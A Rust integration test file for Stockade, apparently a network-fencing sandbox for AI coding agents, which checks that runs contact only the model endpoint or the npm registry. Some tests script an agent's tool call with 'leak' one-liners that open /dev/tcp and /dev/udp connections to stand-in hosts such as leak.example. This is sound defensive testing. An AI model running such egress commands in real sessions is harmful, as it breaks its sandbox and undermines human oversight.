//! Stockade sends nothing of its own: an observer outside sees connections to the endpoint and to the registry only.
//!
//! Everything runs in a network in which every packet of every process is read. Needs root, to make that network.

#![expect(
    clippy::unwrap_used,
    clippy::disallowed_methods,
    reason = "a test: a panic is how it fails, and the observer is tried on other programs first"
)]

use std::{collections::BTreeSet, time::Duration};

use serde_json::json;
use stockade_tests::{Caller, ScriptedModel, World, model, network::ObservedNetwork, outside, run::Call};

/// A caller's world and a network to observe it in, which sees the mounts that are there when it is made.
fn observed(world: World) -> (World, ObservedNetwork) {
    let network = ObservedNetwork::new();
    (world, network)
}

fn set(attempts: &[&str]) -> BTreeSet<String> {
    attempts.iter().map(|a| (*a).to_owned()).collect()
}

/// `http://127.0.0.1:PORT/v1` as the observer names it.
fn endpoint(model: &ScriptedModel) -> String {
    let authority = model.url.strip_prefix("http://").unwrap().split('/').next().unwrap();
    format!("tcp {authority}")
}

/// Without the decoy on loopback that the proof of a fence listens on and connects to itself, as a positive control: what
/// cannot be reached inside has to be reachable outside. There is one in each proof.
fn without_decoys(attempts: BTreeSet<String>, endpoint: &str, proofs: usize) -> BTreeSet<String> {
    let (decoys, others): (Vec<String>, Vec<String>) =
        attempts.into_iter().partition(|a| a.starts_with("tcp 127.0.0.1:") && a != endpoint);
    assert!(decoys.len() <= proofs, "more than the decoys of {proofs} proofs: {decoys:?}");
    others.into_iter().collect()
}

fn grok<'w>(call: Call<'w>, world: &World, network: &ObservedNetwork) -> Call<'w> {
    call.args(&["--provider", "grok", "--provider-sandbox", "replace"]).through(&network.enter(&world.ws()))
}

#[test]
fn the_observer_sees_every_kind_of_attempt() {
    let network = ObservedNetwork::new();
    let attempt = |script: &str| {
        let mut words = network.enter("/".as_ref());
        words.extend(["bash", "-c", script].map(str::to_owned));
        let mut command = std::process::Command::new(&words[0]);
        let _fails = command.args(&words[1..]).stderr(std::process::Stdio::null()).status().unwrap();
        network.attempts()
    };
    assert_eq!(attempt("true"), set(&[]));
    assert_eq!(attempt("exec 3<>/dev/tcp/198.51.100.1/81"), set(&["tcp 198.51.100.1:81"]));
    assert_eq!(attempt("exec 3<>/dev/tcp/::1/82"), set(&["tcp [::1]:82"]));
    assert_eq!(attempt("echo x >/dev/udp/198.51.100.2/83"), set(&["udp 198.51.100.2:83"]));
    assert_eq!(
        attempt("exec 3<>/dev/tcp/some.example/84"),
        set(&["name some.example", "tcp 203.0.113.7:84"])
    );
}

#[test]
fn a_run_connects_to_its_endpoint_and_to_nothing_else_whatever_its_tools_try() {
    for caller in Caller::both() {
        let (world, network) = observed(World::with_providers(&caller));
        let leak = "for to in 198.51.100.1/80 leak.example/443 127.0.0.1/22; do (exec 3<>/dev/tcp/$to) 2>/dev/null && echo \"reached $to\"; done; \
                    echo x >/dev/udp/198.51.100.1/53; getent hosts leak.example; echo tried";
        let scenario = json!({
            "version": 1, "name": "leak", "steps": [model::shell(leak)], "otherwise": { "text": "done" },
        });
        let model = ScriptedModel::through(&world, &scenario, &[], &network.enter(&world.ws()));
        assert_eq!(network.attempts(), set(&[]));
        let call = world
            .run("r", &["--endpoint", &model.url, "--key-env", "MODEL_KEY"])
            .env("MODEL_KEY", "sk-1234567");
        grok(call, &world, &network).end().expect_code(0);
        let endpoint = endpoint(&model);
        assert_eq!(without_decoys(network.attempts(), &endpoint, 1), set(&[&endpoint]));
        let told = model.tool_result(0);
        assert!(told.contains("tried") && !told.contains("reached"), "{told}");
        outside::wait_for_no_process_fenced_for(&world, Duration::from_secs(2));
    }
}

#[test]
fn codex_connects_to_its_endpoint_and_to_nothing_else() {
    for caller in Caller::both() {
        let (world, network) = observed(World::with_providers(&caller));
        let leak =
            "(exec 3<>/dev/tcp/198.51.100.1/80) && echo reached; getent hosts leak.example; echo tried";
        let step = json!({ "tools": [{ "name": "exec_command", "arguments": { "cmd": leak } }] });
        let scenario =
            json!({ "version": 1, "name": "leak", "steps": [step], "otherwise": { "text": "done" } });
        let model = ScriptedModel::through(&world, &scenario, &[], &network.enter(&world.ws()));
        let call = world.run("r", &["--endpoint", &model.url]);
        let call = call.args(&["--provider", "codex", "--provider-sandbox", "replace"]);
        call.through(&network.enter(&world.ws())).end().expect_code(0);
        let endpoint = endpoint(&model);
        assert_eq!(without_decoys(network.attempts(), &endpoint, 1), set(&[&endpoint]));
        // The one name that was looked up is the tool's; Codex itself asks for none.
        let names: BTreeSet<String> = World::events(&world.receipt("r"))
            .iter()
            .map(|event| &event["event"])
            .filter(|event| event["kind"] == "network-decision")
            .map(|event| event["target"].as_str().unwrap().to_owned())
            .collect();
        assert_eq!(names, set(&["leak.example"]));
    }
}

#[test]
fn an_endpoint_with_a_name_is_looked_up_and_connected_to_and_nothing_else() {
    for caller in Caller::both() {
        let (world, network) = observed(World::with_providers(&caller));
        let call = world.run("r", &["--endpoint", "https://model.example:8443/v1", "--key-env", "MODEL_KEY"]);
        grok(call, &world, &network).env("MODEL_KEY", "sk-1234567").end().expect_code(69);
        assert_eq!(world.receipt("r")["status"], "provider-unreachable");
        let attempts = without_decoys(network.attempts(), "", 1);
        assert_eq!(attempts, set(&["name model.example", "tcp 203.0.113.7:8443"]));
    }
}

#[test]
fn commands_that_need_no_network_make_no_attempt() {
    for caller in Caller::both() {
        let (world, network) = observed(World::with_providers(&caller));
        let prompt = world.write("out/prompt.md", "Plan.\n");
        let plan = world.call(&[
            "plan",
            "--prompt",
            prompt.to_str().unwrap(),
            "--endpoint",
            "http://127.0.0.1:9/v1",
        ]);
        grok(plan, &world, &network).end().expect_code(0);
        grok(world.call(&["doctor"]), &world, &network).end().expect_code(0);
        // Neither a key nor a login: refused without asking anybody.
        grok(world.run("r", &[]), &world, &network).end().expect_code(77);
        let receipt = world.path("out/r.receipt.json");
        for args in [
            &["receipt", "show", receipt.to_str().unwrap()][..],
            &["receipt", "verify", receipt.to_str().unwrap()],
            &["gc", "--remove"],
            &["provision", "--list", "--verify"],
            &["version"],
            &["help", "exit-codes"],
            &["completions", "bash"],
        ] {
            world.call(args).through(&network.enter(&world.ws())).end().expect_code(0);
        }
        // Of these, only the doctor proves a fence.
        assert_eq!(without_decoys(network.attempts(), "", 1), set(&[]));
    }
}

#[test]
fn a_rehearsal_stays_on_loopback() {
    for caller in Caller::both() {
        let (world, network) = observed(World::with_providers(&caller));
        grok(world.call(&["rehearse", "--mode", "read-only"]), &world, &network).end().expect_code(0);
        let attempts = network.attempts();
        assert!(!attempts.is_empty(), "the scripted model was never asked");
        assert!(attempts.iter().all(|a| a.starts_with("tcp 127.0.0.1:")), "{attempts:?}");
    }
}

#[test]
fn provisioning_connects_to_the_registry_and_nothing_else() {
    for caller in Caller::both() {
        let (world, network) = observed(World::new(&caller));
        let ended = world
            .call(&["provision", "grok@1.0.41"])
            .through(&network.enter(&world.ws()))
            .end()
            .expect_code(69);
        assert!(ended.stderr.contains("registry.npmjs.org"), "{}", ended.stderr);
        assert_eq!(network.attempts(), set(&["name registry.npmjs.org", "tcp 203.0.113.7:443"]));
    }
}
